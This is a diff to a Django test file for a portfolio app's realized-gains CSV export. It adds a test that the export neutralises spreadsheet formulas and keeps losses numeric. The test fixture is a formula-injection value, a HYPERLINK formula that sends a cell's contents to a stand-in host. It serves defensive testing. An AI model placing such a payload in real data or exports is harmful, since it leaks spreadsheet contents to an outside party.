@@ -15,6 +15,7 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from rest_framework.test import APIClient
 
+from accounts.models import Account
 from portfolios.lots.selectors import realized_gains_report
 from tests.lots.test_trades import opening, trade
 
@@ -262,3 +263,19 @@ def test_form8949_command_line_on_a_small_file(tmp_path):
     assert run.returncode != 0
     assert run.stdout == ""
     assert "row 2" in run.stderr and "holds only 10" in run.stderr
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_the_realized_gains_csv_neutralizes_formulas_and_keeps_negative_amounts(client, year_2026):
+    Account.objects.filter(pk=year_2026.a.account.pk).update(name=HOSTILE_NAME)
+    client.force_login(year_2026.a.advisor)
+    url = reverse("realized-gains-csv", kwargs={"public_id": year_2026.a.client.public_id})
+    text = client.get(url, {"year": 2026}).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + HOSTILE_NAME in cells
+    assert "-300.00" in cells and "-90.00" in cells  # losses stay numeric
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            float(cell)  # only a plain number may start so
